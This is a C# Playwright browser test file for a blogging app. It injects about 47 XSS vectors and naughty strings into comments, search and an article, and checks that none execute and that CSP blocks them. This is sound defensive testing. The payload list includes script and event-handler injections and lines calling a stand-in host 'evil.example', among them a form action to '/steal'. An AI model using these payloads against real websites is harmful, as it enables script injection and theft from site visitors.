using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using Byline.BrowserTests.Infrastructure;
using Byline.Web.Features.Articles;
using Byline.Web.Features.Comments;
using Byline.Web.Infrastructure.Data;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Byline.BrowserTests;

/// <summary>
/// Hostile text — classic XSS vectors and the Big List of Naughty Strings — as comment names, websites and
/// bodies, search queries, and an article's title, tags and body written in the real editor. Chromium must
/// execute none of it (alert/confirm/prompt and console hooked, requests to other hosts recorded, CSP
/// violations listened for), and the text must show as text.
/// </summary>
[Collection(BrowserTestGroup.Name)]
public sealed partial class XssTests(BrowserFixture browser)
{
    /// <summary>Classic vectors; every one would call alert/console/fetch an outside host if it ever ran.</summary>
    private static readonly string[] Vectors =
    [
        "<script>alert('xss-1')</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "\"><script>alert('xss-2')</script>",
        "'><script>alert(String.fromCharCode(88,83,83))</script>",
        "</textarea><script>alert('xss-3')</script>",
        "</title><script>alert('xss-4')</script>",
        "<img src=x onerror=alert('xss-5')>",
        "<img src=\"https://evil.example/beacon.gif\">",
        "<IMG SRC=\"javascript:alert('xss-6');\">",
        "<svg onload=alert('xss-7')>",
        "<svg><script>alert('xss-8')</script></svg>",
        "<body onload=alert('xss-9')>",
        "<iframe src=\"javascript:alert('xss-10')\"></iframe>",
        "<iframe srcdoc=\"<script>parent.alert('xss-11')</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=\"></object>",
        "<embed src=\"javascript:alert('xss-12')\">",
        "<a href=\"javascript:alert('xss-13')\">click</a>",
        "<a href=\"data:text/html,<script>alert('xss-14')</script>\">click</a>",
        "<div style=\"width: expression(alert('xss-15'))\">x</div>",
        "<div style=\"background:url(javascript:alert('xss-16'))\">x</div>",
        "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert('xss-17'))}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-18')>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-19')>",
        "<details open ontoggle=alert('xss-20')>",
        "<input autofocus onfocus=alert('xss-21')>",
        "<video><source onerror=alert('xss-22')></video>",
        "<marquee onstart=alert('xss-23')>x</marquee>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-24')\">",
        "<form action=\"https://evil.example/steal\"><button>go</button></form>",
        "&#x3C;script&#x3E;alert('xss-25')&#x3C;/script&#x3E;",
        "&lt;script&gt;alert('xss-26')&lt;/script&gt;",
        "%3Cscript%3Ealert('xss-27')%3C/script%3E",
        "\\u003cscript\\u003ealert('xss-28')\\u003c/script\\u003e",
        "\u003cscript\u003ealert('xss-29')\u003c/script\u003e",
        "＜script＞alert('xss-30')＜/script＞",
        "<scr<script>ipt>alert('xss-31')</scr</script>ipt>",
        "javascript:alert('xss-32')",
        "jav&#x09;ascript:alert('xss-33')",
        "[click me](javascript:alert('xss-34'))",
        "![img](javascript:alert('xss-35'))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<https://evil.example/\"onmouseover=\"alert('xss-36')>",
        "{{constructor.constructor('alert(\"xss-37\")')()}}",
        "${alert('xss-38')}",
        "'\"--></style></script><script>alert('xss-39')</script>",
    ];

    /// <summary>Websites that pass the comment form's check (http/https) yet try to break out of the href.</summary>
    private static readonly string[] Websites =
    [
        "https://example.org/\"><script>alert('w1')</script>",
        "https://example.org/' onmouseover='alert(2)",
        "http://example.org/?q=<img src=x onerror=alert(3)>",
        "https://example.org/#\" autofocus onfocus=\"alert(4)",
    ];

    private static readonly Lazy<string[]> Naughty = new(() =>
        JsonSerializer.Deserialize<string[]>(File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "TestData", "blns.json")))!);

    private const string Hooks = """
        (() => {
          const seen = [];
          Object.defineProperty(window, '__xss', { value: seen, writable: false, configurable: false });
          const note = (kind, args) => seen.push(kind + ': ' + Array.from(args).map(String).join(' ').slice(0, 300));
          for (const name of ['alert', 'confirm', 'prompt', 'print']) {
            window[name] = function () { note(name, arguments); return null; };
          }
          for (const name of ['log', 'info', 'warn', 'error', 'debug', 'trace', 'dir', 'table']) {
            console[name] = function () { note('console.' + name, arguments); };
          }
          document.addEventListener('securitypolicyviolation', e =>
            note('csp', [e.violatedDirective, e.blockedURI, e.sourceFile + ':' + e.lineNumber, e.sample]), true);
        })();
        """;

    /// <summary>A visitor or staff context with the hooks; everything suspicious lands in <c>events</c>.</summary>
    private async Task<IPage> WatchedPageAsync(IBrowserContext context, List<string> events)
    {
        await context.AddInitScriptAsync(Hooks);
        context.Request += (_, request) =>
        {
            var uri = new Uri(request.Url);
            if (uri.Scheme is "http" or "https" && (uri.Host != browser.RootUri.Host || uri.Port != browser.RootUri.Port))
            {
                lock (events)
                {
                    events.Add($"request to another host: {request.Url}");
                }
            }
        };
        var page = await context.NewPageAsync();
        page.Dialog += async (_, dialog) =>
        {
            lock (events)
            {
                events.Add($"dialog {dialog.Type}: {dialog.Message}");
            }
            await dialog.DismissAsync();
        };
        page.PageError += (_, error) => { lock (events) { events.Add($"page error: {error}"); } };
        // Chromium reports every blocked inline script, style or URL as a console error, even with console hooked.
        page.Console += (_, message) =>
        {
            // The one expected console line: Chromium noting a page that answered 404.
            if (!message.Text.Contains("status of 404", StringComparison.Ordinal))
            {
                lock (events)
                {
                    events.Add($"console {message.Type}: {message.Text}");
                }
            }
        };
        return page;
    }

    /// <summary>Loads <paramref name="path"/>, lets handlers and lazy loads fire, and collects the in-page hooks.</summary>
    private static async Task VisitAsync(IPage page, string path, List<string> events)
    {
        var response = await page.GotoAsync(path, new() { WaitUntil = WaitUntilState.Load });
        Assert.True(response is { Status: < 500 }, $"{path} answered {response?.Status}");
        await page.Mouse.MoveAsync(10, 10);
        await page.Mouse.MoveAsync(400, 400);
        await page.WaitForTimeoutAsync(150);
        var inPage = await page.EvaluateAsync<string[]>("() => Array.from(window.__xss || ['hooks missing'])");
        lock (events)
        {
            events.AddRange(inPage.Select(e => $"{path}: {e}"));
        }
        var scriptLinks = await page.EvaluateAsync<int>(
            "() => Array.from(document.querySelectorAll('[href],[src],[action],[formaction]')).filter(e => /^\\s*(javascript|data|vbscript):/i.test(e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action') || e.getAttribute('formaction') || '')).length");
        Assert.True(scriptLinks == 0, $"{path}: {scriptLinks} javascript:/data: links or sources");
        var injected = await page.EvaluateAsync<string[]>(
            "() => Array.from(document.querySelectorAll('iframe, object, embed, svg script, body [onload], [onerror], [onmouseover], [onfocus], [ontoggle], [onstart], base, meta[http-equiv], main style, main link')).map(e => e.outerHTML.slice(0, 120))");
        Assert.True(injected.Length == 0, $"{path}: injected elements {string.Join(" | ", injected)}");
    }

    [Fact]
    public async Task The_hooks_see_script_and_the_policy_blocks_injected_inline_code_but_not_ours()
    {
        var events = new List<string>();
        await using var context = await browser.NewVisitorAsync();
        var page = await WatchedPageAsync(context, events);
        var article = await browser.ArticlePathAsync("mission-bangkok");
        foreach (var path in new[] { "/", article, "/search?q=flood", "/privacy", "/account/login", "/no-such-page" })
        {
            await VisitAsync(page, path, events);
        }
        // Our own pages, JSON-LD and all: not a single violation, error or log line.
        Assert.Empty(events);

        // The hooks work: a script that runs is seen.
        await page.EvaluateAsync("() => alert('canary')");
        Assert.Contains("alert: canary", await page.EvaluateAsync<string[]>("() => Array.from(window.__xss)"));

        // The policy works: an inline script without the nonce, an inline handler and a style attribute are refused.
        await page.EvaluateAsync("""
            () => {
              const s = document.createElement('script'); s.textContent = "alert('inline')"; document.body.append(s);
              const i = document.createElement('img'); i.setAttribute('src', 'x'); i.setAttribute('onerror', "alert('handler')"); document.body.append(i);
              const d = document.createElement('div'); d.innerHTML = '<p style="color:red">styled</p>'; document.body.append(d);
            }
            """);
        await page.WaitForTimeoutAsync(300);
        var seen = await page.EvaluateAsync<string[]>("() => Array.from(window.__xss)");
        Assert.DoesNotContain(seen, e => e.Contains("alert: inline", StringComparison.Ordinal) || e.Contains("alert: handler", StringComparison.Ordinal));
        Assert.Contains(seen, e => e.StartsWith("csp: script-src-elem", StringComparison.Ordinal));
        Assert.Contains(seen, e => e.StartsWith("csp: script-src-attr", StringComparison.Ordinal));
        Assert.Contains(seen, e => e.StartsWith("csp: style-src-attr", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Naughty_comments_search_queries_and_an_article_render_as_text_and_execute_nothing()
    {
        var events = new List<string>();

        // An editor writes an article (remote https images are a feature of staff-written articles, so the beacon
        // vector is left out of the body here; it must still load nothing from comments and search) whose title, tags and body are hostile, in the real editor, and publishes it.
        var (staff, _) = await browser.NewStaffAsync("Editor");
        await using var __ = staff;
        var editor = await WatchedPageAsync(staff, events);
        var marker = Guid.NewGuid().ToString("N")[..6];
        var title = $"XSS {marker} <script>alert('title')</script><img src=x onerror=alert('title')> & \"quotes\"";
        await VisitAsync(editor, "/admin", events);
        await editor.GetByRole(AriaRole.Link, new() { Name = "Write an article" }).ClickAsync();
        await editor.GetByLabel("Title", new() { Exact = true }).FillAsync(title);
        await editor.GetByLabel("Text (Markdown)").FillAsync(string.Join("\n\n", Vectors.Where(v => !v.Contains("beacon.gif", StringComparison.Ordinal))) + "\n\nend of the hostile body");
        await editor.GetByLabel("Tags").FillAsync($"xss{marker}<script>alert('tag')</script>, <img src=x onerror=alert('tag2')>");
        await editor.GetByRole(AriaRole.Button, new() { Name = "Preview" }).ClickAsync();
        await editor.WaitForTimeoutAsync(300);
        await editor.GetByRole(AriaRole.Button, new() { Name = "Publish now" }).ClickAsync();
        await Expect(editor.Locator(".article-state")).ToContainTextAsync("Published");
        var editorEvents = await editor.EvaluateAsync<string[]>("() => Array.from(window.__xss)");
        lock (events)
        {
            events.AddRange(editorEvents.Select(e => $"editor: {e}"));
        }

        var (articleId, articlePath, tagPaths) = await ArticleAsync(title);
        await AddCommentsAsync(articleId, marker);

        await using var visitor = await browser.NewVisitorAsync();
        var page = await WatchedPageAsync(visitor, events);

        // The article: title, body and tags as text.
        await VisitAsync(page, articlePath, events);
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync(title);
        await Expect(page).ToHaveTitleAsync(new Regex(Regex.Escape(title)));
        var body = Normalize(await page.Locator(".article-body").TextContentAsync() ?? "");
        // Staff HTML goes through the article sanitizer: script elements and handlers go, harmless markup shows.
        // (Known, see docs/security.md: the sanitizer drops the text after the unclosed <style> of the <math> vector.)
        Assert.Contains("<img src=x onerror=alert('xss-5')>", body, StringComparison.Ordinal);
        Assert.DoesNotContain("alert('xss-1')", body, StringComparison.Ordinal);

        // Every page of comments, each name and (plain-text) body shown as typed.
        var expected = await CommentsOnAsync(articleId);
        var pages = (expected.Count + 49) / 50;
        var checkedComments = 0;
        for (var number = 1; number <= pages; number++)
        {
            await VisitAsync(page, number == 1 ? articlePath : $"{articlePath}?cpage={number}", events);
            var shown = await page.EvaluateAsync<Dictionary<string, string[]>>("""
                () => Object.fromEntries(Array.from(document.querySelectorAll('li.comment')).map(li => [li.id.replace('comment-', ''),
                  [li.querySelector('.comment-author').textContent, li.querySelector('.comment-body').textContent]]))
                """);
            foreach (var (id, texts) in shown)
            {
                if (!expected.TryGetValue(int.Parse(id, System.Globalization.CultureInfo.InvariantCulture), out var comment))
                {
                    continue;
                }
                checkedComments++;
                if (!comment.Name.Any(char.IsControl))
                {
                    Assert.Equal(Normalize(comment.Name), Normalize(texts[0]));
                }
                if (IsPlainText(comment.Body))
                {
                    var text = Normalize(texts[1]);
                    Assert.True(text.Contains(Normalize(comment.Body), StringComparison.Ordinal)
                        || text.Contains(Normalize(WebUtility.HtmlDecode(comment.Body)), StringComparison.Ordinal),
                        $"comment {id}: body shows as «{texts[1]}», expected «{comment.Body}»");
                }
            }
        }
        Assert.True(checkedComments >= Vectors.Length, $"only {checkedComments} comments were checked");

        // The tag pages, the home page, the comment feed of the sidebar.
        foreach (var tag in tagPaths)
        {
            await VisitAsync(page, tag, events);
        }
        await VisitAsync(page, "/", events);
        await Expect(page.GetByRole(AriaRole.Link, new() { Name = title })).Not.ToHaveCountAsync(0);

        // Search: the classic vectors and the markup-bearing naughty strings, each as a query.
        var queries = Vectors.Concat(Naughty.Value.Where(s => s.Contains('<', StringComparison.Ordinal) || s.Contains("script", StringComparison.OrdinalIgnoreCase))).Take(120).ToList();
        foreach (var query in queries)
        {
            await VisitAsync(page, "/search?q=" + Uri.EscapeDataString(query), events);
        }

        // The moderation queue, where staff see the same comments with e-mail and website.
        await VisitAsync(editor, "/admin/comments?status=approved", events);
        await VisitAsync(editor, $"/admin/articles/{articleId}", events);

        Assert.True(events.Count == 0, "Something ran or was blocked:\n" + string.Join("\n", events.Distinct().Take(40)));
    }

    private sealed record ExpectedComment(string Name, string Body);

    private async Task<(int Id, string Path, List<string> TagPaths)> ArticleAsync(string title)
    {
        await using var scope = browser.App.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<BylineDbContext>();
        var article = await db.Articles.Include(a => a.Tags).SingleAsync(a => a.Title == title);
        Assert.Equal(ArticleStatus.Published, article.Status);
        Assert.Equal(2, article.Tags.Count);
        return (article.Id, ArticleLinks.Url(article.PublishedAt!.Value, article.Slug), article.Tags.Select(t => $"/tag/{t.Slug}").ToList());
    }

    /// <summary>
    /// Every vector and naughty string as a comment (name, website, body), rendered by the app's own comment
    /// renderer as a submission would be, and approved so it shows publicly.
    /// </summary>
    private async Task AddCommentsAsync(int articleId, string marker)
    {
        await using var scope = browser.App.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<BylineDbContext>();
        var renderer = scope.ServiceProvider.GetRequiredService<CommentRenderer>();
        var now = browser.App.Clock.GetUtcNow().UtcDateTime;
        var strings = Vectors.Concat(Naughty.Value).Where(s => s.Trim().Length > 0 && !s.Contains('\0', StringComparison.Ordinal)).ToList();
        for (var i = 0; i < strings.Count; i++)
        {
            var text = strings[i].Trim();
            var name = text.Length > CommentLimits.NameMaxLength ? text[..CommentLimits.NameMaxLength].Trim() : text;
            db.Comments.Add(new Comment
            {
                ArticleId = articleId,
                AuthorName = name,
                AuthorEmail = $"naughty-{marker}-{i}@example.org",
                AuthorUrl = CommentForm.NormalizeWebsite(i < Websites.Length ? Websites[i] : text),
                Body = text,
                BodyHtml = renderer.ToHtml(text),
                Status = CommentStatus.Approved,
                CreatedAt = now.AddSeconds(-strings.Count + i),
            });
        }
        await db.SaveChangesAsync();
        browser.App.Services.GetRequiredService<Byline.Web.Features.Popular.Sidebar>().Invalidate();
    }

    private async Task<Dictionary<int, ExpectedComment>> CommentsOnAsync(int articleId)
    {
        await using var scope = browser.App.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<BylineDbContext>();
        return await db.Comments.Where(c => c.ArticleId == articleId && c.Status == CommentStatus.Approved)
            .ToDictionaryAsync(c => c.Id, c => new ExpectedComment(c.AuthorName, c.Body));
    }

    /// <summary>Text that Markdown leaves alone, so it must appear verbatim.</summary>
    private static bool IsPlainText(string text) =>
        !MarkdownSyntax().IsMatch(text) && !text.Contains("://", StringComparison.Ordinal) && !text.Any(char.IsControl);

    private static string Normalize(string text) => WhiteSpace().Replace(text, " ").Trim();

    [GeneratedRegex(@"[\\`*_\[\]~|]|&[#a-zA-Z]|^\s*([#>+=-]|\d+[.)])", RegexOptions.Multiline)]
    private static partial Regex MarkdownSyntax();

    [GeneratedRegex(@"\s+")]
    private static partial Regex WhiteSpace();
}
